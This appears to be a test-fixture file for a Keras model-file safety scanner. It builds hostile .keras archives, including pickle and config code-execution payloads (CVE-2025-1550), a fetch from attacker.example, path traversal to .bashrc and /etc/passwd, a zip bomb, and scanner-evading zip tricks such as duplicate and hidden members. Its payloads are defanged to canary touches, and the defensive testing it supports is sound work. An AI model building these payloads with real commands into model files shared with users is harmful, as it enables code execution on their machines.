// Hand-made hostile model files for the safety read: each is a real Keras `.keras` (fixtures/models/keras3/
// sequential.keras) with one hostile change, as an attacker would make it (Keras never writes any of these).
// Payloads that would run create a canary file (`touch <canary>`), so a test can prove nothing ran.
import { mkdirSync, readFileSync, symlinkSync, writeFileSync, cpSync } from "node:fs";
import { join } from "node:path";
import { modelsDir } from "../helpers/envs.js";
import { bombMember, centralOffsets, readZip, storedMember, writeZip, type ZipMember } from "../robustness/zip-surgery.js";

export interface UnsafeFile {
  label: string;
  path: string;
  verdict: "ok" | "caution" | "dangerous";
  /** Finding ids the read must report (others may come too). */
  ids: string[];
  /** The canary this file's payload would create, if it ran. */
  canary?: string;
}

const realKeras = join(modelsDir, "keras3", "sequential.keras");

/** A pickle that runs `touch <canary>` when unpickled (protocol 2 header, protocol 0 opcodes: any unpickler). */
export function canaryPickle(canary: string): Buffer {
  return Buffer.concat([Buffer.from([0x80, 0x02]), Buffer.from(`cposix\nsystem\n(Vtouch ${canary}\ntR.`, "latin1")]);
}

/** An `.npy` file of one Python object (descr '|O'): numpy.load(allow_pickle=True) unpickles what follows. */
export function objectNpy(payload: Buffer): Buffer {
  let header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
  const total = 10 + header.length + 1;
  header += " ".repeat((64 - (total % 64)) % 64) + "\n";
  const prefix = Buffer.alloc(10);
  Buffer.from("\x93NUMPY", "latin1").copy(prefix, 0);
  prefix[6] = 1;
  prefix[7] = 0;
  prefix.writeUInt16LE(header.length, 8);
  return Buffer.concat([prefix, Buffer.from(header, "latin1"), payload]);
}

function config(members: ZipMember[]): Record<string, unknown> {
  return JSON.parse(members.find((m) => m.name === "config.json")!.compressed.toString("utf8")) as Record<string, unknown>;
}

function withConfig(members: ZipMember[], edit: (config: Record<string, unknown>) => void): ZipMember[] {
  const copy = config(members);
  edit(copy);
  return members.map((m) => (m.name === "config.json" ? storedMember("config.json", Buffer.from(JSON.stringify(copy))) : m));
}

const layersOf = (c: Record<string, unknown>) => (c.config as { layers: Record<string, unknown>[] }).layers;

/** Writes every hostile file into `dir`; canaries land in `canaryDir`. */
export function writeUnsafeFiles(dir: string, canaryDir: string): UnsafeFile[] {
  mkdirSync(dir, { recursive: true });
  mkdirSync(canaryDir, { recursive: true });
  const members = readZip(readFileSync(realKeras));
  const files: UnsafeFile[] = [];
  const emit = (label: string, archive: Buffer, verdict: UnsafeFile["verdict"], ids: string[], canary?: string) => {
    const path = join(dir, `${label}.keras`);
    writeFileSync(path, archive);
    files.push({ label, path, verdict, ids, canary });
  };
  const canaryFor = (label: string) => join(canaryDir, `${label}.created`);

  emit("real-sequential", writeZip(members), "ok", []);

  // CVE-2025-1550 exactly as the advisory's reproducer: a "layer" that is subprocess.run, called on rebuild.
  const runCanary = canaryFor("config-subprocess-run");
  emit("config-subprocess-run", writeZip(withConfig(members, (c) => {
    layersOf(c).unshift({ module: "subprocess", class_name: "run", config: {}, registered_name: null, inbound_nodes: [{ args: [["touch", runCanary]], kwargs: {} }] });
  })), "dangerous", ["config-imports-module"], runCanary);
  emit("config-builtins-exec-activation", writeZip(withConfig(members, (c) => {
    (layersOf(c)[1].config as Record<string, unknown>).activation = { module: "builtins", class_name: "function", config: "exec", registered_name: "function" };
  })), "dangerous", ["config-imports-module"]);
  emit("config-os-function-as-layer", writeZip(withConfig(members, (c) => {
    layersOf(c).push({ module: "os", class_name: "function", config: "system", registered_name: "function" });
  })), "dangerous", ["config-imports-module", "config-function-as-layer"]);
  emit("config-tfsmlayer", writeZip(withConfig(members, (c) => {
    layersOf(c).push({ module: "keras.layers", class_name: "TFSMLayer", config: { name: "tfsm", filepath: "/tmp/attacker_savedmodel", call_endpoint: "serve", trainable: true }, registered_name: null });
  })), "dangerous", ["config-tfsmlayer"]);
  emit("config-torch-module-wrapper", writeZip(withConfig(members, (c) => {
    layersOf(c).push({ module: "keras.layers", class_name: "TorchModuleWrapper", config: { name: "torch", module: "gASVAAAAAAAAAAA=", trainable: true }, registered_name: null });
  })), "dangerous", ["config-torch-module-wrapper"]);
  emit("config-vocabulary-path", writeZip(withConfig(members, (c) => {
    layersOf(c).push({ module: "keras.layers", class_name: "StringLookup", config: { name: "lookup", vocabulary: "/etc/passwd", trainable: true }, registered_name: null });
  })), "dangerous", ["config-vocabulary-path"]);
  emit("config-get-file-lambda", writeZip(withConfig(members, (c) => {
    layersOf(c).push({
      module: "keras.layers", class_name: "Lambda", registered_name: null,
      config: { name: "fetch", trainable: true, function: { module: "keras.utils", class_name: "function", config: "get_file", registered_name: "function" }, arguments: { origin: "https://attacker.example/x", fname: "/tmp/overwritten" } },
    });
  })), "dangerous", ["config-non-modeling-api", "config-url"]);
  emit("config-enable-unsafe-then-lambda", writeZip(withConfig(members, (c) => {
    layersOf(c).splice(1, 0, {
      module: "keras.layers", class_name: "Lambda", registered_name: null,
      config: { name: "unlock", trainable: true, function: { module: "keras.config", class_name: "function", config: "enable_unsafe_deserialization", registered_name: "function" } },
    });
  })), "dangerous", ["config-disables-safe-mode"]);
  emit("config-traversal-layer-name", writeZip(withConfig(members, (c) => {
    (layersOf(c)[1].config as Record<string, unknown>).name = "../../../home/user/.bashrc";
  })), "dangerous", ["config-path-in-name"]);

  // Two config.json: Python's zipfile (Keras) reads the last, a scanner that stops at the first sees a clean one.
  const hostileConfig = withConfig(members, (c) => {
    layersOf(c).unshift({ module: "subprocess", class_name: "run", config: {}, registered_name: null, inbound_nodes: [{ args: [["touch", canaryFor("zip-duplicate-config")]] }] });
  }).find((m) => m.name === "config.json")!;
  emit("zip-duplicate-config", writeZip([...members, hostileConfig]), "dangerous", ["zip-duplicate-member", "config-imports-module"], canaryFor("zip-duplicate-config"));

  // model.weights.npz holding an object array: numpy.load(allow_pickle=True) (Keras 3 < 3.9) runs the pickle.
  const npzCanary = canaryFor("zip-npz-pickle");
  const npz = writeZip([storedMember("dense.npy", objectNpy(canaryPickle(npzCanary)))]);
  emit("zip-npz-pickle", writeZip([...members.filter((m) => m.name !== "model.weights.h5"), storedMember("model.weights.npz", npz)]), "dangerous", ["zip-npz-weights", "zip-pickle-member"], npzCanary);
  emit("zip-raw-pickle-asset", writeZip([...members, storedMember("assets/lookup/vocabulary.pkl", canaryPickle(canaryFor("zip-raw-pickle-asset")))]), "dangerous", ["zip-pickle-member"], canaryFor("zip-raw-pickle-asset"));
  emit("zip-traversal-names", writeZip([...members, storedMember("../../../../tmp/keras-fix-slip", Buffer.from("x")), storedMember("/etc/keras-fix-abs", Buffer.from("x"))]), "dangerous", ["zip-path-traversal"]);
  emit("zip-bomb-asset", writeZip([...members, bombMember("assets/big/vocabulary.txt", "a\n", 20, "")]), "dangerous", ["zip-bomb"]);
  emit("zip-unexpected-member", writeZip([...members, storedMember("run_me.sh", Buffer.from("#!/bin/sh\n"))]), "caution", ["zip-unexpected-member"]);

  // A member stored in the archive but missing from its central directory (the last entry cut out of it).
  const hiddenMember = storedMember("assets/hidden/payload.pkl", canaryPickle(canaryFor("zip-hidden-member")));
  const withHidden = writeZip([...members, hiddenMember]);
  const offsets = centralOffsets(withHidden);
  const lastEntry = offsets.entries[offsets.entries.length - 1];
  const cut = Buffer.concat([withHidden.subarray(0, lastEntry), withHidden.subarray(offsets.end)]);
  const end = cut.length - 22;
  cut.writeUInt16LE(members.length, end + 8);
  cut.writeUInt16LE(members.length, end + 10);
  cut.writeUInt32LE(cut.readUInt32LE(end + 12) - (offsets.end - lastEntry), end + 12);
  emit("zip-hidden-member", cut, "dangerous", ["zip-hidden-member"], canaryFor("zip-hidden-member"));
  // The first local header names another member than the central directory (same length, one letter changed).
  const renamed = writeZip(members);
  renamed.write(members[0].name.replace(/^./, (c) => c.toUpperCase()), 30, "utf8");
  emit("zip-local-name-mismatch", renamed, "dangerous", ["zip-name-mismatch"]);

  // A symlink member: Unix "made by" and S_IFLNK in the external attributes.
  const linked = writeZip([...members, storedMember("assets/link/vocabulary.txt", Buffer.from("/etc/passwd"))]);
  const { entries } = centralOffsets(linked);
  const last = entries[entries.length - 1];
  linked.writeUInt16LE(0x0314, last + 4);
  linked.writeUInt32LE((0o120777 << 16) >>> 0, last + 38);
  emit("zip-symlink-member", linked, "dangerous", ["zip-symlink"]);

  // A SavedModel folder whose asset is a link to a file outside it.
  const savedModel = join(dir, "savedmodel-asset-link");
  cpSync(join(modelsDir, "keras2", "savedmodel_keras"), savedModel, { recursive: true });
  mkdirSync(join(savedModel, "assets"), { recursive: true });
  symlinkSync("/etc/passwd", join(savedModel, "assets", "vocab.txt"));
  files.push({ label: "savedmodel-asset-link", path: savedModel, verdict: "dangerous", ids: ["savedmodel-asset-link"] });

  // An unzipped .keras folder with npz weights holding a pickle.
  const folder = join(dir, "unzipped-npz");
  mkdirSync(folder, { recursive: true });
  for (const m of members.filter((m) => m.name !== "model.weights.h5")) writeFileSync(join(folder, m.name), m.compressed);
  writeFileSync(join(folder, "model.weights.npz"), npz);
  files.push({ label: "unzipped-npz", path: folder, verdict: "dangerous", ids: ["zip-npz-weights"] });
  return files;
}
